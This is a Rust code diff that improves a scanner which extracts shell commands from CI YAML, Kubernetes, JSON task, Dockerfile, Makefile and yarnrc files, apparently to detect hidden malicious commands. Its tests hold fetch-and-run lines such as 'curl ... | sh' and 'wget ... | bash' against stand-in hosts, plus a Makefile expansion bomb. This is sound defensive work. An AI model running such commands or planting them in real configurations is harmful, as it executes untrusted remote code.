@@ -22,9 +22,7 @@ pub fn commands(name: &str, text: &str) -> Option<String> {
     if name == "justfile" || name == ".justfile" || ext == "just" {
         return Some(recipe_shell(text, None));
     }
-    if matches!(ext, "yml" | "yaml") {
-        return Some(yaml_commands(text));
-    }
+
     // JSON only by name: any JSON may hold a `command` key (an eval's fixtures, a
     // tool's schema), but these files are run by the tool that reads them.
     if matches!(
@@ -39,6 +37,9 @@ pub fn commands(name: &str, text: &str) -> Option<String> {
     }
     if name == ".npmrc" || name == "npmrc" || name == ".yarnrc" || name == ".yarnrc.yml" {
         return Some(npmrc_commands(text));
+    }
+    if matches!(ext, "yml" | "yaml") {
+        return Some(yaml_commands(text));
     }
     if name == "procfile" || name.starts_with("procfile.") {
         return Some(procfile_commands(text));
@@ -168,11 +169,15 @@ fn yaml_commands(text: &str) -> String {
             i += 1;
             continue;
         };
+        // `run : x` is the key `run` too.
+        let key = key.trim_end();
         if !is_command_key(key) || key.contains(' ') && !key.starts_with(['"', '\'']) {
             i += 1;
             continue;
         }
-        let key_indent = indent_of(line);
+        // Where the key itself stands (after a list dash): its block is what is
+        // indented further than that.
+        let key_indent = line.len() - body.len();
         let value = value.trim();
         let value = value.split(" #").next().unwrap_or(value).trim_end();
         if value.starts_with('[') {
@@ -196,7 +201,15 @@ fn yaml_commands(text: &str) -> String {
             }
             let more = indent_of(l) > key_indent
                 || !block_scalar && indent_of(l) == key_indent && l.trim_start().starts_with("- ");
-            if !more {
+            // A sibling key of the same list item ends the block: `- args:` then
+            // `  command: [...]` is two keys.
+            let sibling = !block_scalar
+                && !l.trim_start().starts_with("- ")
+                && l.trim_start()
+                    .split_once(':')
+                    .is_some_and(|(k, _)| !k.trim().contains(' '))
+                && indent_of(l) <= key_indent;
+            if !more || sibling {
                 break;
             }
             let t = l.trim_start();
@@ -227,35 +240,65 @@ fn yaml_commands(text: &str) -> String {
 fn json_commands(text: &str) -> String {
     text.lines()
         .map(|line| {
-            let t = line.trim_start();
-            let Some(rest) = t.strip_prefix('"') else {
-                return String::new();
-            };
-            let Some((key, value)) = rest.split_once("\":") else {
-                return String::new();
-            };
-            if !is_command_key(key) {
-                return String::new();
+            // Every `"key" : value` on the line (a minified file has them all on one).
+            let mut commands = Vec::new();
+            let mut rest = line;
+            while let Some(open) = rest.find('"') {
+                let after = &rest[open + 1..];
+                let Some(close) = after.find('"') else { break };
+                let key = &after[..close];
+                let tail = after[close + 1..].trim_start();
+                rest = &after[close + 1..];
+                let Some(value) = tail.strip_prefix(':') else { continue };
+                if !is_command_key(key) {
+                    continue;
+                }
+                let value = value.trim_start();
+                if value.starts_with('[') {
+                    let end = value.find(']').map_or(value.len(), |e| e + 1);
+                    commands.push(flow_list(&value[..end]));
+                } else if value.starts_with('"') {
+                    let end = string_end(value);
+                    commands.push(json_string(&value[..end]));
+                }
             }
-            let value = value.trim().trim_end_matches(',').trim();
-            if value.starts_with('[') {
-                at_column(line, value, flow_list(value))
-            } else if value.starts_with('"') {
-                at_column(line, value, json_string(value))
-            } else {
+            if commands.is_empty() {
                 String::new()
+            } else if commands.len() == 1 {
+                let value_at = line
+                    .find(commands[0].get(..commands[0].len().min(8)).unwrap_or(""))
+                    .unwrap_or(0);
+                format!("{}{}", " ".repeat(value_at), commands[0])
+            } else {
+                commands.join("; ")
             }
         })
         .collect::<Vec<_>>()
         .join("\n")
 }
 
+/// The length of the JSON string literal `value` starts with, its quotes included.
+fn string_end(value: &str) -> usize {
+    let mut escaped = false;
+    for (i, c) in value.char_indices().skip(1) {
+        match c {
+            _ if escaped => escaped = false,
+            '\\' => escaped = true,
+            '"' => return i + 1,
+            _ => {}
+        }
+    }
+    value.len()
+}
+
 /// A JSON string literal's text, escapes undone (`\u` escapes included).
 fn json_string(value: &str) -> String {
-    match serde_json::from_str::<String>(value) {
+    let text = match serde_json::from_str::<String>(value) {
         Ok(s) => s,
         Err(_) => value.trim_matches('"').to_string(),
-    }
+    };
+    // An escaped line break would move every later line: it stays on this one.
+    text.replace(['\n', '\r'], " ")
 }
 
 /// git configuration: filters (`clean`, `smudge`, `process`), `core.fsmonitor`,
@@ -375,6 +418,8 @@ pub fn pth_code(text: &str) -> String {
 /// A justfile's (or, with `variables`, a Makefile's) recipe lines: every indented line
 /// below a recipe header, its `@` and `-` prefixes dropped.
 fn recipe_shell(text: &str, variables: Option<&[(String, String)]>) -> String {
+    let lookup: Option<std::collections::HashMap<&str, &str>> =
+        variables.map(|vars| vars.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect());
     let mut out = String::with_capacity(text.len());
     for line in text.lines() {
         let recipe = match variables {
@@ -383,8 +428,12 @@ fn recipe_shell(text: &str, variables: Option<&[(String, String)]>) -> String {
         };
         if let Some(recipe) = recipe {
             let recipe = recipe.trim_start_matches(['@', '-', '+', ' ']);
-            match variables {
-                Some(variables) => out.push_str(&expand_make(recipe, variables, 0)),
+            match &lookup {
+                Some(lookup) => {
+                    let mut line = String::with_capacity(recipe.len());
+                    expand_into(recipe, lookup, 0, &mut line);
+                    out.push_str(&line);
+                }
                 None => out.push_str(recipe),
             }
         }
@@ -407,9 +456,13 @@ pub fn dockerfile_shell(text: &str) -> String {
                 .get(..4)
                 .filter(|head| head.eq_ignore_ascii_case("RUN "))
                 .map(|_| &trimmed[4..])
-                .filter(|rest| !rest.trim_start().starts_with('['))
         };
         match command {
+            // The exec form (`RUN ["sh", "-c", "…"]`) as the words it runs.
+            Some(command) if !continuing && command.trim_start().starts_with('[') => {
+                out.push_str(&flow_list(command.trim()));
+                continuing = false;
+            }
             Some(command) => {
                 out.push_str(command);
                 continuing = command.trim_end().ends_with('\\');
@@ -443,10 +496,16 @@ pub fn make_variables(text: &str, out: &mut Vec<(String, String)>) {
     }
 }
 
-fn expand_make(text: &str, variables: &[(String, String)], depth: usize) -> String {
-    let mut out = String::with_capacity(text.len());
+/// Most bytes one recipe line expands to: a variable defined as itself several times
+/// over (`A = $(A)$(A)…`) would otherwise grow as a power of its length.
+const MAX_EXPANDED_LINE: usize = 64 * 1024;
+
+fn expand_into(text: &str, variables: &std::collections::HashMap<&str, &str>, depth: usize, out: &mut String) {
     let mut rest = text;
     while let Some(at) = rest.find('$') {
+        if out.len() >= MAX_EXPANDED_LINE {
+            return;
+        }
         out.push_str(&rest[..at]);
         let after = &rest[at + 1..];
         if let Some(tail) = after.strip_prefix('$') {
@@ -458,8 +517,8 @@ fn expand_make(text: &str, variables: &[(String, String)], depth: usize) -> Stri
         {
             let (inner, c) = close;
             let name = &inner[..c];
-            match variables.iter().rev().find(|(n, _)| n == name) {
-                Some((_, value)) if depth < 4 => out.push_str(&expand_make(value, variables, depth + 1)),
+            match variables.get(name) {
+                Some(value) if depth < 4 => expand_into(value, variables, depth + 1, out),
                 _ => {
                     out.push_str("${");
                     out.push_str(name);
@@ -472,8 +531,9 @@ fn expand_make(text: &str, variables: &[(String, String)], depth: usize) -> Stri
             rest = after;
         }
     }
-    out.push_str(rest);
-    out
+    if out.len() + rest.len() <= MAX_EXPANDED_LINE {
+        out.push_str(rest);
+    }
 }
 
 #[cfg(test)]
@@ -495,6 +555,21 @@ mod tests {
     }
 
     #[test]
+    fn a_variable_made_of_itself_expands_within_a_bound() {
+        let bomb = format!(
+            "A = x\n{}\nall:\n\t$(A)\n",
+            (0..6)
+                .map(|_| format!("A := {}", "$(A)".repeat(100)))
+                .collect::<Vec<_>>()
+                .join("\n")
+        );
+        let mut variables = Vec::new();
+        make_variables(&bomb, &mut variables);
+        let shell = makefile_shell(&bomb, &variables);
+        assert!(shell.len() <= MAX_EXPANDED_LINE + bomb.len(), "{}", shell.len());
+    }
+
+    #[test]
     fn ci_and_kubernetes_yaml_give_their_commands_on_their_lines() {
         let workflow = "jobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -s https://x.example/a.sh | sh\n      - name: many\n        run: |\n          echo one\n          wget -qO- https://x.example/b | bash\n";
         let shell = commands("ci.yml", workflow).unwrap_or_default();
@@ -507,6 +582,38 @@ mod tests {
         let shell = commands("pod.yaml", pod).unwrap_or_default();
         assert!(shell.contains("/bin/sh -c"), "{shell}");
         assert!(shell.contains("curl https://x.example/k | sh"), "{shell}");
+    }
+
+    #[test]
+    fn a_sibling_key_a_spaced_key_and_minified_json_do_not_hide_a_command() {
+        let pod = "spec:\n  containers:\n  - args:\n    command: [\"sh\", \"-c\", \"curl x | sh\"]\n";
+        assert!(commands("pod.yaml", pod).unwrap_or_default().contains("curl x | sh"));
+        assert!(
+            commands("ci.yml", "steps:\n  - run : curl x | sh\n")
+                .unwrap_or_default()
+                .contains("curl x | sh")
+        );
+        let minified = "{\"name\":\"d\",\"postCreateCommand\" : \"curl x | sh\"}";
+        assert!(
+            commands("devcontainer.json", minified)
+                .unwrap_or_default()
+                .contains("curl x | sh")
+        );
+        let escaped = "{\n \"command\": \"a\\nb\"\n}";
+        assert_eq!(
+            commands("tasks.json", escaped).unwrap_or_default().split('\n').count(),
+            3
+        );
+        assert!(
+            commands(".yarnrc.yml", "nodeOptions: --require ./x.cjs\n")
+                .unwrap_or_default()
+                .contains("node --require")
+        );
+        assert!(
+            commands("dockerfile", "RUN [\"sh\", \"-c\", \"curl x | sh\"]\n")
+                .unwrap_or_default()
+                .contains("curl x | sh")
+        );
     }
 
     #[test]
